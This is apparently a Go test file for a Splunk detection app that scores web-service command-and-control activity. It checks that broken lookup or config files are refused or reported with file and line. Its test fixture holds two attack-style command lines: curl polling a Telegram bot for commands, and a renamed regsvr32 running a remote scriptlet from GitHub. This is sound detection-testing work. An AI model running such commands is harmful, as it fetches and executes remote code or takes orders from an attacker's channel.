package score_test

// Broken configuration through the real t1102score and the emulator: a
// lookup or t1102.conf an admin edited, as a search sees it.

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/t1102app/t1102/src/splunkd"
)

// configEvents are two detections whose scores depend on the lookups'
// optional-looking columns: curl asking a Telegram bot for commands
// (command_paths) and a renamed regsvr32 running a scriptlet from GitHub
// (original_file_name).
func configEvents() *splunkd.Table {
	return splunkd.TableOf([]string{"EventCode", "ProcessId", "Image", "OriginalFileName", "CommandLine", "ParentImage"}, [][]string{
		{"1", "8012", `C:\Windows\System32\curl.exe`, "curl.exe", `curl.exe -s -o %TEMP%\tg.json "https://api.telegram.org/bot123456:AAE-example/getUpdates"`, `C:\Windows\System32\cmd.exe`},
		{"1", "9001", `C:\Users\Public\upd.exe`, "REGSVR32.EXE", `upd.exe /s /n /u /i:https://raw.githubusercontent.com/e/r/main/a.sct scrobj.dll`, `C:\Windows\explorer.exe`},
	})
}

// appCopy lays out an app folder (lookups/, default/) from the source
// tree's files, each changed by edits (file name → change of its text).
func appCopy(t *testing.T, edits map[string]func(string) string) string {
	t.Helper()
	dir := t.TempDir()
	copyDir := func(from, to string) {
		entries, err := os.ReadDir(filepath.Join(repo, from))
		require.NoError(t, err)
		require.NoError(t, os.MkdirAll(filepath.Join(dir, to), 0o755))
		for _, e := range entries {
			if e.IsDir() || !(strings.HasSuffix(e.Name(), ".csv") || strings.HasSuffix(e.Name(), ".conf")) {
				continue
			}
			b, err := os.ReadFile(filepath.Join(repo, from, e.Name()))
			require.NoError(t, err)
			s := string(b)
			if edit, ok := edits[to+"/"+e.Name()]; ok {
				s = edit(s)
			}
			require.NoError(t, os.WriteFile(filepath.Join(dir, to, e.Name()), []byte(s), 0o644))
		}
	}
	copyDir("app/lookups", "lookups")
	copyDir("default", "default")
	for name, edit := range edits {
		if p := filepath.Join(dir, name); !fileExists(p) {
			require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
			require.NoError(t, os.WriteFile(p, []byte(edit("")), 0o644))
		}
	}
	return dir
}

func fileExists(p string) bool { _, err := os.Stat(p); return err == nil }

// withoutColumns removes columns from a CSV text.
func withoutColumns(cols ...string) func(string) string {
	return func(s string) string {
		recs, err := csv.NewReader(strings.NewReader(s)).ReadAll()
		if err != nil {
			panic(err)
		}
		drop := map[int]bool{}
		for i, h := range recs[0] {
			for _, c := range cols {
				if h == c {
					drop[i] = true
				}
			}
		}
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		for _, r := range recs {
			var keep []string
			for i, f := range r {
				if !drop[i] {
					keep = append(keep, f)
				}
			}
			_ = w.Write(keep)
		}
		w.Flush()
		return b.String()
	}
}

func headerOnly(s string) string { h, _, _ := strings.Cut(s, "\n"); return h + "\n" }

// withLine inserts a line after line n (1 is the header).
func withLine(n int, line string) func(string) string {
	return func(s string) string {
		lines := strings.SplitAfter(s, "\n")
		return strings.Join(lines[:n], "") + line + "\n" + strings.Join(lines[n:], "")
	}
}

func appendText(text string) func(string) string { return func(s string) string { return s + text } }

// TestConfigThroughEmulator: a configuration that cannot be used is refused
// with its file and line; a bad row or setting is left out with an
// inspector WARN naming it and the real cause, and the rest still judges.
func TestConfigThroughEmulator(t *testing.T) {
	const telegram, regsvr32 = 70, 100 // the shipped configuration's scores
	tests := []struct {
		name, reason string
		edits        map[string]func(string) string
		fails        string   // the error text's part; empty: the search runs
		warns        []string // parts of the WARN messages, one each, in order
		risk         [2]int   // risk_score of the two events when the search runs
	}{
		{name: "shipped", reason: "the reference figures", risk: [2]int{telegram, regsvr32}},
		{name: "web services without raw_paths, command_paths", reason: "item 10: curl on Telegram fell from 70 to 45 without a word",
			edits: map[string]func(string) string{"lookups/t1102_webservices.csv": withoutColumns("raw_paths", "command_paths")},
			fails: `t1102_webservices.csv:1: bad catalog: header has no column "raw_paths"`},
		{name: "web services header only", reason: "item 10: no service, no detection at all, without a word",
			edits: map[string]func(string) string{"lookups/t1102_webservices.csv": headerOnly},
			fails: "t1102_webservices.csv: bad catalog: no usable row"},
		{name: "processes without original_file_name", reason: "item 10: renamed regsvr32 fell from 100 to 65 without a word",
			edits: map[string]func(string) string{"lookups/t1102_processes.csv": withoutColumns("original_file_name")},
			fails: `t1102_processes.csv:1: bad catalog: header has no column "original_file_name"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			res, err := splunkd.Run(context.Background(), splunkd.Search{
				Argv: []string{scoreBin, "-app-dir", appCopy(t, tt.edits)}, Input: configEvents(), Collect: true,
			})
			var warns []string
			for _, m := range res.Messages {
				if m.Level == "WARN" {
					warns = append(warns, m.Text)
				}
			}
			if tt.fails != "" {
				var ce *splunkd.CommandError
				require.ErrorAs(t, err, &ce, "the search must fail; scores %v", scores(res.Table))
				require.Contains(t, filepath.ToSlash(ce.Text), tt.fails)
				return
			}
			require.NoError(t, err)
			require.Equal(t, tt.risk, scores(res.Table))
			require.Len(t, warns, len(tt.warns), "%q", warns)
			for i, w := range tt.warns {
				require.Contains(t, filepath.ToSlash(warns[i]), w)
			}
		})
	}
}

// scores are the two configEvents' risk_score (-1: no row).
func scores(tab *splunkd.Table) [2]int {
	out := [2]int{-1, -1}
	if tab == nil {
		return out
	}
	for i := range tab.Rows {
		n := -1
		if v := first(tab.Get(i, "risk_score")); v != "" {
			n = atoi(v)
		}
		switch first(tab.Get(i, "ProcessId")) {
		case "8012":
			out[0] = n
		case "9001":
			out[1] = n
		}
	}
	return out
}

func atoi(s string) int {
	n := 0
	for _, c := range s {
		if c < '0' || c > '9' {
			return -1
		}
		n = n*10 + int(c-'0')
	}
	return n
}
